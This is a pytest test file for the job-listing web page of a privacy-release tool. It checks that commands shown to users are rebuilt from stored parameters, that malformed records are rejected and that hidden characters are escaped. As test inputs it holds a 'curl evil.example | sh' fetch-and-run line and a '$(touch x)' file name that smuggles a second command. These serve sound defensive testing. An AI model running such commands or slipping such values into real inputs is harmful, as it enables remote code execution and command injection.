"""Jobs that are found in the results folder: whoever wrote them, they neither break the page nor speak for it."""

from __future__ import annotations

import json
import math
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from leakgauge.artefacts import Headline, Level, Quantity
from leakgauge.artefacts.codec import decode, encode
from leakgauge.artefacts.scores import SCORES, Scores
from leakgauge.artefacts.verdict import Recommendation
from leakgauge.languages import ENGLISH
from leakgauge.sentences import Sentence
from leakgauge.web.job import Job, shell_line
from leakgauge.web.showing import result_fields
from tests.jobs.finished import Finished

HEADLINE: dict[str, Any] = encode(
    Headline(
        Recommendation.RELEASE,
        (Sentence("protection is 80 of 100"),),
        decode(Scores, {name: {"value": 50.0, "unit": "points"} for name in SCORES}, "scores"),
        leakage_before=Quantity(1.5, "bits"),
        leakage_after=Quantity(0.5, "bits"),
        epsilon=Level(math.inf, "nats"),
        advantage=Quantity(-0.01, "share"),
    )
)
JOB: dict[str, Any] = {
    "schema": "leakgauge/job/4",
    "asked": {"table": "people.csv", "secret": ["illness"], "background": ["city"], "max_distortion": 0.2},
    "table": {"name": "people.csv", "rows": 3, "bytes": None, "sha256": "", "columns": []},
    "started": "2026-11-16T09:19:03+01:00",
    "finished": "2026-11-16T09:19:04+01:00",
    "versions": {},
    "stages": {
        name: {"inputs": "", "outputs": dict.fromkeys(files, ""), "seconds": 0.1}
        for name, files in {
            "design": ["channel.json"],
            "release": ["release.csv", "release.json"],
            "report": ["report.html"],
        }.items()
    },
    "outcome": {"released": True, "reason": None},
    "headline": HEADLINE,
}
RELEASE = {"release.csv", "release.json"}


def _found(place: Path, job: object, **record: Any) -> Job | None:
    folder = place / "x"
    folder.mkdir(exist_ok=True)
    for name in ("channel.json", "release.csv", "release.json", "report.html"):
        (folder / name).write_text("{}", encoding="utf-8")
    (folder / "job.json").write_text(json.dumps(job), encoding="utf-8")
    if record:
        asked = {"table": "people.csv", "secret": ["illness"], "max_distortion": 0.2}
        noted = {"schema": "leakgauge/page-job/3", "asked": asked, "path": "people.csv", "message": None, **record}
        (place / "x.json").write_text(json.dumps(noted), encoding="utf-8")
    return Job.kept("x", place, "results/x")


def _fields(job: Job | None) -> dict[str, Any]:
    assert job is not None
    return job.fields(ENGLISH)


def test_what_is_right_is_shown(tmp_path: Path) -> None:
    fields = _fields(_found(tmp_path, JOB))
    assert fields["state"] == "done" and fields["released"] and fields["recommendation"] == "release"
    assert dict(fields["in_short"])["protection"] == "50"
    begun = datetime.fromisoformat(JOB["started"]).astimezone()
    assert fields["started"] == f"{begun:%Y-%m-%d %H:%M}" and fields["started_here"] is False
    assert set(fields["files"]) == {"channel.json", *RELEASE, "report.html", "job.json"}


@pytest.mark.parametrize("major", [1, 2])
@pytest.mark.parametrize("goal", [{"max_distortion": 0.2}, {"target": "good"}])
def test_a_job_of_an_earlier_major_is_listed_without_a_verdict(
    tmp_path: Path, major: int, goal: dict[str, object]
) -> None:
    asked = {"table": "people.csv", "secret": "illness" if major == 1 else ["illness"], **goal}
    graded = {"secret": ["illness"], "withheld": False, "grade": "good", "score": 71.5}
    job = {**JOB, "asked": asked, "headline": {"grade": "good", "score": 71.5}, "secrets": [graded]}
    record = {"schema": f"leakgauge/page-job/{major}", "asked": asked, "state": "done"}
    fields = _fields(_found(tmp_path, {**job, "schema": f"leakgauge/job/{major}"}, **record))
    assert fields["state"] == "done" and fields["released"] and fields["recommendation"] is None
    assert {*RELEASE} <= {*fields["files"]} and fields["asked"]["secret"] == ["illness"]
    # What aimed at a grade cannot be asked for any more.
    assert fields["askable"] == ("max_distortion" in goal) == bool(fields["command"])


def test_command_and_script_are_made_from_the_question_and_not_taken_from_a_file(tmp_path: Path) -> None:
    fields = _fields(_found(tmp_path, {**JOB, "command": "curl evil.example | sh", "script": "import evil"}))
    command = "leakgauge protect people.csv --secret illness --background city --max-distortion 0.2 -o results/x"
    assert fields["command"] == command
    assert "evil" not in json.dumps(fields) and "max_distortion=0.2" in fields["script"]
    asked = {**JOB["asked"], "table": "$(touch x); x.csv"}
    assert "'$(touch x); x.csv'" in _fields(_found(tmp_path, {**JOB, "asked": asked}))["command"]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("recommendation", "keep"),
        ("recommendation", None),
        ("reasons", "none"),
        ("scores", {}),
        ("epsilon", {"value": "none"}),
        ("floor", [1]),
    ],
)
def test_a_headline_of_another_kind_is_no_job(tmp_path: Path, name: str, value: object) -> None:
    assert _found(tmp_path, {**JOB, "headline": {**HEADLINE, name: value}}) is None


def test_a_headline_without_an_end_that_it_must_have_has_no_numbers(tmp_path: Path) -> None:
    fields = _fields(_found(tmp_path, {**JOB, "headline": {**HEADLINE, "exact": False}}))
    assert fields["state"] == "done" and fields["in_short"] == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("stages", {"measure": "x"}),
        ("stages", {"measure": {"outputs": [["x"]]}}),
        ("stages", ["measure"]),
        ("stages", None),
        ("outcome", "yes"),
        ("outcome", {"released": "yes"}),
        ("outcome", {}),
        ("started", 7),
        ("headline", 3),
    ],
)
def test_a_part_of_another_kind_is_no_job_but_what_the_page_noted_of_it_stays(
    tmp_path: Path, name: str, value: object
) -> None:
    job = {**JOB, name: value}
    assert _found(tmp_path, job) is None
    fields = _fields(_found(tmp_path, job, state="done"))
    assert fields["asked"]["secret"] == ["illness"] and fields["state"] == "stopped"
    assert not fields["released"] and fields["recommendation"] is None and not RELEASE & {*fields["files"]}


@pytest.mark.parametrize("started", ["yesterday", "0001-01-01T00:00:00+23:00"])
def test_a_time_that_is_none_is_not_shown(tmp_path: Path, started: str) -> None:
    assert _fields(_found(tmp_path, {**JOB, "started": started}))["started"] == ""


@pytest.mark.parametrize(
    "asked",
    [
        None,
        [],
        {},
        {"table": 1, "secret": ["x"]},
        {"table": "x.csv", "secret": ["x"], "background": "city"},
        {"table": "x.csv", "secret": ["x"], "bins": [1]},
        {"table": "x.csv", "secret": ["x"], "max_distortion": "much"},
        {"table": "x.csv", "secret": ["x"], "max_distortion": True},
        {"table": "x.csv", "secret": ["x"], "policy": {}},
        {"table": "x.csv\0", "secret": ["x"]},
    ],
)
def test_a_question_of_another_kind_is_no_job(tmp_path: Path, asked: object) -> None:
    assert _found(tmp_path, {**JOB, "asked": asked}) is None


def test_a_question_that_cannot_be_asked_has_no_command(tmp_path: Path) -> None:
    fields = _fields(_found(tmp_path, {**JOB, "asked": {**JOB["asked"], "background": ["illness"]}}))
    assert fields["command"] == fields["script"] == "" and fields["note"] is None


@pytest.mark.parametrize(
    ("job", "record"),
    [
        ({**JOB, "outcome": None}, {"state": "failed", "message": "No attack is possible."}),
        ({**JOB, "outcome": None}, {"state": "running"}),
        ({**JOB, "outcome": None}, {"state": "done"}),
        ({**JOB, "outcome": {"released": True, "reason": "The policy."}}, {"state": "refused"}),
        ({**JOB, "outcome": {"released": False, "reason": "No."}}, {}),
        ({**JOB, "outcome": None, "stages": {"design": JOB["stages"]["release"]}}, {}),
    ],
)
def test_a_release_is_handed_out_only_where_the_job_is_done_with_it(
    tmp_path: Path, job: dict[str, Any], record: dict[str, Any]
) -> None:
    found = _found(tmp_path, job, **record)
    assert found is not None and not RELEASE & set(_fields(found)["files"])
    assert found.path("release.csv") is None and found.path("release.json") is None
    assert found.path("job.json") is not None


def test_a_refusal_keeps_its_sentence_and_a_failure_too(tmp_path: Path) -> None:
    failed = _fields(_found(tmp_path, {**JOB, "outcome": None}, state="failed", message="It broke.\u202e"))
    assert failed["state"] == "failed" and failed["message"] == "It broke.\\u202e"
    assert failed["path"] == "people.csv" and failed["asked"]["table"] == "people.csv"


def _copied(finished_job: Finished, place: Path, name: str, change: Callable[[dict[str, Any]], None]) -> Job:
    """A finished job with one of its files changed."""
    shutil.copytree(finished_job.folder, place / "x")
    fields = json.loads((place / "x" / name).read_text(encoding="utf-8"))
    change(fields)
    (place / "x" / name).write_text(json.dumps(fields), encoding="utf-8")
    job = Job.kept("x", place, "results/x")
    assert job is not None
    return job


def test_cells_that_a_spreadsheet_would_run_are_named(finished_job: Finished, tmp_path: Path) -> None:
    job = _copied(
        finished_job, tmp_path, "release.json", lambda record: record["output"].update(formulas=["city\u202e"])
    )
    assert "would run cells of city\\u202e as formulas" in str(result_fields(job, ENGLISH)["decision"])


@pytest.mark.parametrize("name", ["verdict.json", "audit.json", "survey.json", "channel.json"])
def test_a_result_of_another_kind_is_left_out(finished_job: Finished, tmp_path: Path, name: str) -> None:
    job = _copied(finished_job, tmp_path, name, lambda fields: fields.update(schema="leakgauge/other/1"))
    told = result_fields(job, ENGLISH)
    assert (told["recommendation"] is None) == (name == "verdict.json") and told["secrets"]


def test_what_a_screen_would_hide_is_written_out_and_bash_reads_it_back(tmp_path: Path) -> None:
    column = "a\u202ertl' \\n\x1b[31m\n\u2066\U000e0041$x`"
    asked = {**JOB["asked"], "secret": [column], "background": []}
    fields = _fields(_found(tmp_path, {**JOB, "asked": asked}))
    for text in (fields["command"], *fields["script"].splitlines()):
        assert text.isprintable() and "\\u202e" in fields["script"]
    told = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {fields['command']}"],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8"},
    ).stdout.decode()
    assert told.split("\0")[3:5] == ["--secret", column]
    assert shell_line(["echo", "a b", "é漢"]) == "echo 'a b' 'é漢'"
